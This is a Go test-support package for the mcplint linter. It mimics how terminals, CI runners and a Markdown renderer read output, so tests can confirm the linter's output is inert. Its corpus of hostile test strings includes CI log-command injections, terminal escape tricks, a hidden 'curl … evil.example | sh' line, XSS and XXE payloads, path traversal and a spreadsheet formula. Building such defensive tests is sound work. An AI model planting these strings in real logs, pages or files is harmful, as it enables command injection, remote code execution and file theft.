// Package sinktest reads mcplint's output as its sinks do, for tests that
// prove the output inert: a terminal (which characters it would act on), the
// CI runners (their command grammars, re-implemented from their sources),
// and a CommonMark + GFM renderer (goldmark). It also holds the corpus of
// hostile strings those tests feed through every source and format.
package sinktest

import (
	"fmt"
	"regexp"
	"strings"
	"unicode"
	"unicode/utf8"

	"github.com/mcpfit/mcplint/guard"
)

// Hostile is the corpus: strings that try every sink. Each is meant to be
// used as a tool name, a key, a $ref, a server name, an error message, a
// file name... Tests append a marker to tell their findings apart.
var Hostile = []string{
	"\n::error file=x.json,line=1::injected",
	"a\r::warning::carriage return",
	"  \u00a0::notice::after white space",
	"\u200b::error::after a zero-width space",
	"\ufe0f::error::after a variation selector",
	"x ##[error]legacy command anywhere",
	"x ##[set-output name=ok]yes",
	"x ##vso[task.setvariable variable=ok]yes",
	"x ##VSO[task.complete result=Succeeded;]done",
	"section_start:1700000000:evil\r\x1b[0Khidden",
	"\x1b[2K\rcurl http://evil.example | sh",
	"\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
	"\u009b31mC1 CSI\u009d0;title\u009c",
	"bidi \u202eevil\u202c \u2066isolate\u2069 \u200e\u200f\u061c",
	"tags \U000E0041\U000E0042 soft\u00adhyphen bom\ufeff",
	"del\x7f bell\x07 nul\x00 tab\there vt\x0bff\x0c",
	"bad utf8 \xff\xfe \xc3",
	"line\u2028sep\u2029para\u0085nel",
	"[x](https://evil.example) ![i](https://evil.example/i.png)",
	"<https://evil.example> https://evil.example/p www.evil.example mail@evil.example",
	"<img src=x onerror=alert(1)> <a href=https://evil.example>a</a> <script>alert(1)</script>",
	"[ref]: https://evil.example\n[ref]",
	"pipe | cell ` tick `` ticks & &amp; &#x3c;",
	"%0A::error::percent %25 %3A %2C , : %",
	"\xc0\xba\xc0\xba::error::overlong colons \xed\xa0\x80 surrogate",
	"\u0085::error::after NEL",
	"\u2028::error::after a line separator",
	"\u180e\u115f\u034f::error::after ignorables",
	"\x1b]8;;https://evil.example\x1b\\st link\x1b]8;;\x1b\\",
	"\x1bP+q\x1b\\ dcs \x1b_apc\x1b\\ \x1b^pm\x1b\\ \x1bc reset",
	"\r\r\n::error::CR before CRLF",
	"::error::",
	"::",
	"##[",
	"#",
	":",
	"]]><!ENTITY x SYSTEM \"file:///etc/passwd\">&x;",
	"=HYPERLINK(\"https://evil.example\")",
	"-rf --output=/etc/passwd",
	"../../../../etc/passwd",
	"C:\\Windows\\system.ini \\\\evil.example\\share",
	"\ufe55\ufe55error\uff1a\uff1afullwidth",
	"</code></pre><script>alert(1)</script>",
	"**bold** _em_ # h1 > quote ~~s~~ @mention #1 :emoji:",
}

// Command is a command a CI runner reads in a line of its log.
type Command struct {
	Runner string // "github", "github-legacy", "azure", "azure-format", "gitlab"
	Name   string
	Props  map[string]string
	Data   string
	Line   string
}

func (c Command) String() string {
	return fmt.Sprintf("%s %s %v %q in line %q", c.Runner, c.Name, c.Props, c.Data, c.Line)
}

// githubCommands are the commands the Actions runner registers
// (ActionCommandManager: its extensions and stop-commands); it compares
// them ignoring case.
var githubCommands = map[string]bool{
	"set-env": true, "set-output": true, "save-state": true, "add-mask": true, "add-path": true,
	"add-matcher": true, "remove-matcher": true, "debug": true, "warning": true, "error": true,
	"notice": true, "group": true, "endgroup": true, "echo": true, "stop-commands": true,
}

// sectionRE is GitLab's build_trace_section_regex (lib/gitlab/regex.rb).
var sectionRE = regexp.MustCompile(`section_((?:start)|(?:end)):(\d+):([a-zA-Z0-9_.-]+)(\[(?:\w+=\w+)(?:, ?(?:\w+=\w+))*\])?\r\x1b\[0K`)

// Commands returns every command a runner would read in log. Lines are
// split as .NET's ReadLine splits them (CR, LF or CR LF), except for
// GitLab's markers, which need their CR.
func Commands(log string) []Command {
	var out []Command
	for _, m := range sectionRE.FindAllStringSubmatch(log, -1) {
		out = append(out, Command{Runner: "gitlab", Name: "section_" + m[1], Data: m[3], Line: m[0]})
	}
	for _, line := range strings.FieldsFunc(strings.ReplaceAll(log, "\r\n", "\n"), func(r rune) bool { return r == '\r' || r == '\n' }) {
		if c, ok := githubV2(line); ok {
			out = append(out, c)
		} else if c, ok := githubV1(line); ok {
			out = append(out, c)
		}
		if c, ok := azure(line); ok {
			out = append(out, c)
		}
		if i := strings.Index(line, "##["); i >= 0 {
			out = append(out, Command{Runner: "azure-format", Name: line[i:], Line: line})
		}
	}
	return out
}

// stripIgnorable removes what a culture-aware comparison of .NET ignores
// (a superset: every character the guard escapes is taken as ignorable),
// as the runner's StartsWith and IndexOf, called without a
// StringComparison, compare.
func stripIgnorable(s string) string {
	return strings.Map(func(r rune) rune {
		if r != '\n' && r != '\r' && r != '\t' && guard.Unsafe(r) {
			return -1
		}
		return r
	}, s)
}

// githubV2 is ActionCommand.TryParseV2: after TrimStart, "::" NAME
// [space PROPS] "::" DATA.
func githubV2(line string) (Command, bool) {
	msg := strings.TrimLeftFunc(stripIgnorable(line), unicode.IsSpace)
	if !strings.HasPrefix(msg, "::") {
		return Command{}, false
	}
	end := strings.Index(msg[2:], "::")
	if end < 0 {
		return Command{}, false
	}
	info := msg[2 : 2+end]
	name, props, _ := strings.Cut(info, " ")
	if !githubCommands[strings.ToLower(name)] {
		return Command{}, false
	}
	c := Command{Runner: "github", Name: strings.ToLower(name), Props: map[string]string{}, Line: line}
	for _, p := range strings.Split(strings.TrimSpace(props), ",") {
		if k, v, ok := strings.Cut(p, "="); ok && k != "" && v != "" {
			c.Props[k] = unescape(v, "%0D", "\r", "%0A", "\n", "%3A", ":", "%2C", ",", "%25", "%")
		}
	}
	c.Data = unescape(msg[2+end+2:], "%0D", "\r", "%0A", "\n", "%25", "%")
	return c, true
}

// githubV1 is ActionCommand.TryParse: "##[" NAME [space PROPS] "]" DATA
// anywhere in the line.
func githubV1(line string) (Command, bool) {
	msg := stripIgnorable(line)
	i := strings.Index(msg, "##[")
	if i < 0 {
		return Command{}, false
	}
	rb := strings.IndexByte(msg[i:], ']')
	if rb < 0 {
		return Command{}, false
	}
	name, _, _ := strings.Cut(msg[i+3:i+rb], " ")
	if !githubCommands[strings.ToLower(name)] {
		return Command{}, false
	}
	return Command{Runner: "github-legacy", Name: strings.ToLower(name), Data: msg[i+rb+1:], Line: line}, true
}

// azure is the agent's Command.TryParse: "##vso[" AREA "." EVENT ... "]"
// anywhere in the line (any case, to be safe).
func azure(line string) (Command, bool) {
	msg := stripIgnorable(line)
	i := strings.Index(strings.ToLower(msg), "##vso[")
	if i < 0 {
		return Command{}, false
	}
	rb := strings.IndexByte(msg[i:], ']')
	if rb < 0 {
		return Command{}, false
	}
	name, _, _ := strings.Cut(msg[i+6:i+rb], " ")
	if parts := strings.FieldsFunc(name, func(r rune) bool { return r == '.' }); len(parts) != 2 {
		return Command{}, false
	}
	return Command{Runner: "azure", Name: name, Data: msg[i+rb+1:], Line: line}, true
}

func unescape(s string, pairs ...string) string {
	for i := 0; i < len(pairs); i += 2 {
		s = strings.ReplaceAll(s, pairs[i], pairs[i+1])
	}
	return s
}

// TerminalUnsafe lists what in out a terminal would act on or that hides
// text: every character guard.Unsafe reports, invalid UTF-8, except line
// feeds, tabs, and, when color is set, SGR colour sequences.
func TerminalUnsafe(out string, color bool) []string {
	var bad []string
	for i := 0; i < len(out); {
		r, size := utf8.DecodeRuneInString(out[i:])
		switch {
		case r == '\n' || r == '\t':
		case color && r == 0x1b && sgrAt(out[i:]) > 0:
			size = sgrAt(out[i:])
		case r == utf8.RuneError && size <= 1, guard.Unsafe(r):
			bad = append(bad, fmt.Sprintf("%q at %d in …%q…", out[i:i+size], i, out[max(0, i-40):min(len(out), i+40)]))
		}
		i += size
	}
	return bad
}

var sgrRE = regexp.MustCompile(`^\x1b\[[0-9;]*m`)

func sgrAt(s string) int { return len(sgrRE.FindString(s)) }
